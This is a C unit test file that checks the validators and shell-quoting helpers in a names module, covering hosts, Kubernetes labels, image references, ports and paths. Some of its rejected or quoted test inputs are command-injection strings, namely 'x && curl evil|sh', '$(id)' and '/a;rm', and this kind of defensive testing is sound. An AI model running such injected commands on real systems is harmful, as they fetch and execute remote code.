/* test_names.c - the grammars of names that become paths, Kubernetes objects,
 * hosts and shell words (names.h). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "names.h"

static void test_env_names(void **state) {
  (void)state;
  const char *good[] = {"dev", "prod", "region-0", "a", "0", "v88-open", "x234567890123456789012345678901234567890123456789012345678901"};
  for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
    assert_true(name_valid(NAME_ENV, good[i]));
  const char *bad[] = {"", ".", "..", "../x", "a/b", "a/.", "/abs", "Prod", "-a", "a-", "a b", "a\nb",
                       "$(id)", "a_b", "a.b", "x2345678901234567890123456789012345678901234567890123456789012345"};
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
    assert_false(name_valid(NAME_ENV, bad[i]));
  assert_false(name_valid(NAME_ENV, NULL));
}

static void test_release_is_at_most_53(void **state) {
  (void)state;
  char s[64];
  memset(s, 'a', 53);
  s[53] = '\0';
  assert_true(name_valid(NAME_RELEASE, s));
  s[53] = 'a';
  s[54] = '\0';
  assert_false(name_valid(NAME_RELEASE, s));
  assert_true(name_valid(NAME_DNS_LABEL, s));
  assert_false(name_valid(NAME_DNS_LABEL, "x && curl evil|sh"));
}

static void test_hosts(void **state) {
  (void)state;
  assert_true(name_valid(NAME_HOST, "camunda.example.com"));
  assert_true(name_valid(NAME_INGRESS_HOST, "*.example.com"));
  assert_false(name_valid(NAME_HOST, "*.example.com"));
  const char *bad[] = {"https://x.example.com", "x.example.com/path", "x .com", "x.example.com:443",
                       "", ".x", "x.", "x..y", "X.example.com", "a\tb", "*.*.x"};
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    assert_false(name_valid(NAME_HOST, bad[i]));
    assert_false(name_valid(NAME_INGRESS_HOST, bad[i]));
  }
  assert_true(name_valid(NAME_HOST_OR_IP, "10.0.0.7"));
  assert_true(name_valid(NAME_HOST_OR_IP, "fd00::7"));
  assert_true(name_valid(NAME_HOST_OR_IP, "Node-1.Example.com"));
  assert_false(name_valid(NAME_HOST_OR_IP, "10.0.0.7:22"));
  assert_false(name_valid(NAME_HOST_OR_IP, "[fd00::7]"));
}

static void test_files_keys_and_variables(void **state) {
  (void)state;
  assert_true(name_valid(NAME_FILE, "values.yaml"));
  assert_true(name_valid(NAME_FILE, ".env"));
  assert_false(name_valid(NAME_FILE, ".."));
  assert_false(name_valid(NAME_FILE, "a/b"));
  assert_true(name_valid(NAME_SECRET_KEY, "tls.crt"));
  assert_false(name_valid(NAME_SECRET_KEY, "a b"));
  assert_false(name_valid(NAME_SECRET_KEY, "."));
  assert_false(name_valid(NAME_SECRET_KEY, ".."));
  assert_false(name_valid(NAME_SECRET_KEY, "..data"));
  assert_true(name_valid(NAME_SECRET_KEY, ".dockerconfigjson"));
  assert_true(name_valid(NAME_ENV_VAR, "CONNECTORS_SECRET_X"));
  assert_false(name_valid(NAME_ENV_VAR, "1X"));
  assert_false(name_valid(NAME_ENV_VAR, "X-Y"));
  assert_true(strlen(name_grammar(NAME_ENV)) > 10);
}

/* Each kind: what it accepts, and what it refuses. */
static void both(enum name_kind k, const char *const *good, size_t ng, const char *const *bad, size_t nb) {
  for (size_t i = 0; i < ng; i++)
    if (!name_valid(k, good[i]))
      fail_msg("kind %d refuses \"%s\"", (int)k, good[i]);
  for (size_t i = 0; i < nb; i++)
    if (name_valid(k, bad[i]))
      fail_msg("kind %d accepts \"%s\"", (int)k, bad[i]);
  assert_true(strlen(name_grammar(k)) > 10);
}
#define BOTH(k, good, bad) both(k, good, sizeof good / sizeof good[0], bad, sizeof bad / sizeof bad[0])

static void test_typed_strings(void **state) {
  (void)state;
  const char *env_good[] = {"JAVA_TOOL_OPTIONS", "camunda.log.level", "_X", "a-b"};
  const char *env_bad[] = {"", "1X", "A B", "A=B", "A\nB", "$X"};
  BOTH(NAME_ENV_KEY, env_good, env_bad);
  const char *ann_good[] = {"route.openshift.io/termination", "nginx.ingress.kubernetes.io/proxy-body-size", "a",
                            "haproxy.router.openshift.io/hsts_header"};
  const char *ann_bad[] = {"", "/x", "a/", "Route.io/x", "a/b/c", "-a", "a b", "x/-y", "a\n"};
  BOTH(NAME_ANNOTATION_KEY, ann_good, ann_bad);
  const char *ip_good[] = {"127.0.0.1", "0.0.0.0", "::1", "fd00::7"};
  const char *ip_bad[] = {"", "localhost", "256.0.0.1", "1.2.3", "[::1]", "127.0.0.1 "};
  BOTH(NAME_IP, ip_good, ip_bad);
  const char *label_good[] = {"zb0", "broker-1.acme", "web_modeler", "A1"};
  const char *label_bad[] = {"", ".", "..", "-x", "_x", "a/b", "a b", "a\nb", "$(id)", "x234567890123456789012345678901234567890123456789012345678901234"};
  BOTH(NAME_LABEL, label_good, label_bad);
  const char *user_good[] = {"demo", "jane@acme.example", "a.b+c~d_e-f"};
  const char *user_bad[] = {"", "a b", "a/b", "a\"b", "a:b"};
  BOTH(NAME_USER_ID, user_good, user_bad);
  const char *unix_good[] = {"camunda", "_svc", "c8-user_1"};
  const char *unix_bad[] = {"", "Camunda", "1user", "-x", "camunda service", "x23456789012345678901234567890123"};
  BOTH(NAME_UNIX_USER, unix_good, unix_bad);
  const char *path_good[] = {"/mnt/backups", "/usr/local/camunda/backups", "/a.b/c_d-e"};
  const char *path_bad[] = {"", "/", "backups", "/a/../b", "/a/./b", "/a//b", "/a/", "/a b", "/a\nb", "/a;rm"};
  BOTH(NAME_ABS_PATH, path_good, path_bad);
  const char *up_good[] = {"/", "/auth", "/a/b~c"};
  const char *up_bad[] = {"", "auth", "/auth/", "//", "/a/../b", "/a?b", "/a b"};
  BOTH(NAME_URL_PATH, up_good, up_bad);
  const char *mail_good[] = {"admin@acme.example", "connectors@local", "a.b+c@Mail.Example.com"};
  const char *mail_bad[] = {"", "admin", "@acme.example", "a@", "a b@c.d", "a@b c", ".a@b.c", "a..b@c.d",
                            "Jane <jane@acme.example>", "a@b@c"};
  BOTH(NAME_EMAIL, mail_good, mail_bad);
  const char *ver_good[] = {"8.8", "14.8.4", "8.8.30-acme.1", "16"};
  const char *ver_bad[] = {"", "-1", ".8", "8.8 ", "8/8", "8.8+build"};
  BOTH(NAME_VERSION, ver_good, ver_bad);
}

static void test_image_references(void **state) {
  (void)state;
  const char *reg_good[] = {"registry.acme.example", "ghcr.io", "localhost:5000", "registry.acme.internal/dockerhub",
                            "Registry.Example.com:443/a/b"};
  const char *reg_bad[] = {"", "https://ghcr.io", "ghcr.io/", "r:0", "r:65536", "r:x", "r/Upper", "r/a b", "r//a"};
  BOTH(NAME_IMAGE_REGISTRY, reg_good, reg_bad);
  const char *repo_good[] = {"camunda/camunda", "mirror/camunda", "a", "a.b/c__d/e--f/g_h"};
  const char *repo_bad[] = {"", "Camunda/camunda", "a/", "/a", "a//b", "a..b", "a___b", "-a", "a-", "a:tag", "a@b"};
  BOTH(NAME_IMAGE_REPOSITORY, repo_good, repo_bad);
  const char *tag_good[] = {"8.8.17", "latest", "_x", "8.8.30-acme.1"};
  const char *tag_bad[] = {"", ".x", "-x", "a:b", "a b", "a/b"};
  BOTH(NAME_IMAGE_TAG, tag_good, tag_bad);
  char tag[130];
  memset(tag, 'a', 129);
  tag[129] = '\0';
  assert_false(name_valid(NAME_IMAGE_TAG, tag));
  tag[128] = '\0';
  assert_true(name_valid(NAME_IMAGE_TAG, tag));
  const char *dig_good[] = {"sha256:4b3c2a1f00000000000000000000000000000000000000000000000000000000"};
  const char *dig_bad[] = {"", "sha256:0123", "sha256:4B3C2A1F00000000000000000000000000000000000000000000000000000000",
                           "md5:4b3c2a1f000000000000000000000000", "4b3c2a1f00000000000000000000000000000000000000000000000000000000",
                           "sha256:4b3c2a1f000000000000000000000000000000000000000000000000000000000"};
  BOTH(NAME_IMAGE_DIGEST, dig_good, dig_bad);
}

static void test_ports(void **state) {
  (void)state;
  int p = 0;
  assert_true(name_port("65535", 5, &p));
  assert_int_equal(p, 65535);
  assert_true(name_port("8080/x", 4, &p));
  assert_int_equal(p, 8080);
  assert_false(name_port("0", 1, &p));
  assert_false(name_port("65536", 5, &p));
  assert_false(name_port("", 0, &p));
  assert_false(name_port("000080", 6, &p));
  assert_false(name_port("99999999999999999999", 20, &p));
  assert_false(name_port("8a", 2, &p));
}

static void test_shell_words(void **state) {
  (void)state;
  struct arena *a = arena_new();
  assert_string_equal(name_shell_word(a, "camunda-prod"), "camunda-prod");
  assert_string_equal(name_shell_word(a, "out/prod/values.yaml"), "out/prod/values.yaml");
  assert_string_equal(name_shell_word(a, "x && curl evil|sh"), "'x && curl evil|sh'");
  assert_string_equal(name_shell_word(a, "it's"), "'it'\\''s'");
  assert_string_equal(name_shell_word(a, ""), "''");
  assert_string_equal(name_shell_word(a, "$(id)"), "'$(id)'");
  arena_free(a);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_env_names),
      cmocka_unit_test(test_release_is_at_most_53),
      cmocka_unit_test(test_hosts),
      cmocka_unit_test(test_files_keys_and_variables),
      cmocka_unit_test(test_typed_strings),
      cmocka_unit_test(test_image_references),
      cmocka_unit_test(test_ports),
      cmocka_unit_test(test_shell_words),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
